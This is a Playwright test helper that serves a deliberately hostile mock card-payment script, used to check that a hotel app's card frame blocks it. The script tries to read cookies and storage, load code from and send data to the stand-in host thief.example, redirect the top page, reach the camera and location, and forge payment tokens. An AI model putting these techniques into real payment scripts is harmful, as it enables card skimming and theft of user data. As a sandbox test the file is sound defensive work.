import { expect, type Frame, type Page } from '@playwright/test';

/** A hostile card script's loot by its attempts; refused ones hold `refused`. */
export type Loot = Readonly<Record<string, unknown>>;

declare global {
  interface Window {
    loot?: Promise<Loot>;
    cardsSeen?: number;
  }
}

/** A provider on its own origin. */
export const SCRIPT_URL = 'https://cards.example/ext/js/token.js';

/** Serves a provider's script, readable for any page as a pin requires. */
export const serves = (page: Page, body: string) =>
  page.route(SCRIPT_URL, (route) =>
    route.fulfill({ body, contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' } }),
  );

export async function cardDocument(page: Page, name = 'Multipayment'): Promise<Frame> {
  const find = () => page.frames().find((frame) => frame.url().endsWith('/card.html'));
  await expect.poll(() => find()?.evaluate((key) => key in window, name) ?? false).toBe(true);
  const frame = find();
  if (!frame) throw new Error('There is no card document');
  return frame;
}

export const THIEF = 'https://thief.example';

/** A provider's script that gives proper tokens and takes everything it can. */
export const hostileCardScript = (): string => `(${steal.toString()})(${JSON.stringify(THIEF)})`;

function steal(thief: string): void {
  const attempt = async (way: () => unknown): Promise<unknown> => {
    try {
      return await way();
    } catch {
      return 'refused';
    }
  };
  const loads = (element: HTMLImageElement | HTMLIFrameElement | HTMLScriptElement, address: string) =>
    new Promise((resolve, reject) => {
      element.onload = () => resolve('loaded');
      element.onerror = reject;
      element.src = address;
      document.documentElement.append(element);
    });
  const ways: Readonly<Record<string, () => unknown>> = {
    'the page': () => window.parent.document.title,
    'the page, by a script of its own': () => Reflect.get(window.parent, 'eval'),
    'the page’s address': () => window.parent.location.href,
    'local storage': () => window.localStorage.length,
    'session storage': () => window.sessionStorage.length,
    'the page’s storage': () => window.parent.localStorage.length,
    cookies: () => document.cookie,
    databases: async () => (await indexedDB.databases()).length,
    caches: () => window.caches.keys(),
    'the service worker': () => navigator.serviceWorker.getRegistrations(),
    'the name of the window': () => window.name,
    'where it was opened': () => document.referrer,
    'the hotel': () => fetch('/api/v1/client/facilities').then(({ status }) => status),
    'the settings': () => fetch('/data/config.json').then(({ status }) => status),
    'another script of ours': () => loads(document.createElement('script'), '/sw.js'),
    'a script of its own': () => loads(document.createElement('script'), `${thief}/more.js`),
    'a written script': () => {
      const script = document.createElement('script');
      script.textContent = 'window.name = "written"';
      document.head.append(script);
      return window.name;
    },
    'its own origin': () => fetch(thief, { mode: 'no-cors' }),
    'its own origin, by a picture': () => loads(new Image(), `${thief}/?card`),
    'a frame': () => {
      const frame = document.createElement('iframe');
      frame.src = `${thief}/frame`;
      document.documentElement.append(frame);
      return 'tried';
    },
    'another browser': () => new RTCPeerConnection(),
    'another browser, from a frame': () => {
      const frame = document.createElement('iframe');
      document.documentElement.append(frame);
      return Reflect.get(Object(frame.contentWindow), 'RTCPeerConnection') ? 'found' : 'refused';
    },
    'a form': () => {
      const form = document.createElement('form');
      form.action = `${thief}/form`;
      document.documentElement.append(form);
      form.submit();
      return 'tried';
    },
    'another window': () => window.open(`${thief}/window`),
    'another page for the tablet': () => {
      if (window.top) window.top.location.href = `${thief}/top`;
      return 'tried';
    },
    'the camera': () => navigator.mediaDevices.getUserMedia({ video: true }),
    'where the tablet is': () =>
      new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
    'the whole screen': () => document.documentElement.requestFullscreen(),
  };
  // Endless answers to unasked questions.
  setInterval(() => {
    for (const message of [{ kind: 'token', token: 'forged' }, { kind: 'card-document' }, { kind: 'loaded' }])
      window.parent.postMessage(message, '*');
  }, 20);
  window.cardsSeen = 0;
  window.loot = Promise.all(
    Object.entries(ways).map(async ([name, way]) => [name, await attempt(way)] as const),
  ).then((found) => Object.fromEntries(found));

  const hex = () => Math.floor(Math.random() * 16).toString(16);
  window.Multipayment = {
    init: () => {},
    getToken: (_, callback) => {
      window.cardsSeen = (window.cardsSeen ?? 0) + 1;
      const token = `demo-token-${Array.from({ length: 32 }, hex).join('')}`;
      const answer: unknown = Reflect.get(window, String(callback));
      if (typeof answer === 'function') answer({ resultCode: '000', tokenObject: { token } });
    },
  };
}
